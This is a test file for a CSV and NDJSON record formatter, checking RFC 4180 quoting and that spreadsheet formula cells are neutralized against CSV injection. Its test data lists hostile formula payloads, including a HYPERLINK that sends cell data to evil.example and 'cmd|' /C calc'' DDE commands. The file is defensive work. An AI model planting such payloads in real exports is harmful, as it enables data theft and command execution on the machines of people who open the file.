import { recordFormat } from './record-format';

const escaping = { formulaEscaping: true };

const records = [
  {
    customerId: 'c1',
    fields: { customerId: 'c1', email: 'a@example.test', score: 12.5, vip: true, note: null },
  },
  {
    customerId: 'c2',
    fields: { customerId: 'c2', email: 'Müller, "Max"', score: 0, vip: false, note: ' padded ' },
  },
  {
    customerId: 'c3',
    fields: { customerId: 'c3', email: 'line\nbreak', score: -1, vip: null, note: '' },
  },
];
const fields = ['customerId', 'email', 'score', 'vip', 'note'];

describe('record formats', () => {
  it('writes RFC 4180 CSV: header, CRLF, quotes only where needed, absent values empty', () => {
    const csv = recordFormat('csv', escaping);
    expect(csv.extension).toBe('csv');
    expect(csv.header(fields)).toBe('customerId,email,score,vip,note\r\n');
    expect(csv.lines(records, fields)).toBe(
      [
        'c1,a@example.test,12.5,true,',
        'c2,"Müller, ""Max""",0,false," padded "',
        'c3,"line\nbreak",-1,,',
        '',
      ].join('\r\n'),
    );
  });

  describe('cells a spreadsheet would run as formulas (CSV injection)', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
      '+1+2',
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
    ];
    const member = (note: string, score: number | string = -1) => ({
      customerId: 'c1',
      fields: { customerId: 'c1', note, score },
    });

    it("neutralizes them by default as OWASP advises: a ' in front, and the cell quoted", () => {
      const csv = recordFormat('csv', escaping);
      const written = hostile.map((note) => csv.lines([member(note)], ['note']));
      expect(written).toEqual([
        '"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"\r\n',
        '"\'+1+2"\r\n',
        "\"'-2+3+cmd|' /C calc'!A0\"\r\n",
        "\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n",
        '"\'\t=1+1"\r\n',
        '"\'\r=1+1"\r\n',
      ]);
    });

    it('leaves numbers and text that does not start like a formula alone', () => {
      const csv = recordFormat('csv', escaping);
      expect(
        csv.lines(
          [member('a=b', -1), member(' =1', 2.5), member("'quoted", '-')],
          ['note', 'score'],
        ),
      ).toBe(['a=b,-1', '" =1",2.5', '\'quoted,"\'-"', ''].join('\r\n'));
    });

    it('neutralizes field names in the header too', () => {
      expect(recordFormat('csv', escaping).header(['email', '=cmd'])).toBe('email,"\'=cmd"\r\n');
    });

    it('writes them unchanged (RFC 4180 quoting only) when escaping is off', () => {
      const csv = recordFormat('csv', { formulaEscaping: false });
      expect(hostile.map((note) => csv.lines([member(note)], ['note']))).toEqual([
        '"=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"\r\n',
        '+1+2\r\n',
        "-2+3+cmd|' /C calc'!A0\r\n",
        "@SUM(1+1)*cmd|' /C calc'!A0\r\n",
        '"\t=1+1"\r\n',
        '"\r=1+1"\r\n',
      ]);
    });

    it('never changes NDJSON', () => {
      const line = recordFormat('ndjson', escaping).lines([member('=1+1')], ['note']);
      expect(JSON.parse(line)).toEqual({ note: '=1+1' });
    });
  });

  it('writes NDJSON with every chosen field on every line (absent values are null)', () => {
    const ndjson = recordFormat('ndjson', escaping);
    expect(ndjson.extension).toBe('ndjson');
    expect(ndjson.header(fields)).toBe('');
    const lines = ndjson.lines(records, ['email', 'vip', 'missing']).split('\n');
    expect(lines).toHaveLength(4);
    expect(lines[3]).toBe('');
    expect(lines.slice(0, 3).map((l) => JSON.parse(l))).toEqual([
      { email: 'a@example.test', vip: true, missing: null },
      { email: 'Müller, "Max"', vip: false, missing: null },
      { email: 'line\nbreak', vip: null, missing: null },
    ]);
    expect(Object.keys(JSON.parse(lines[0]))).toEqual(['email', 'vip', 'missing']);
  });
});
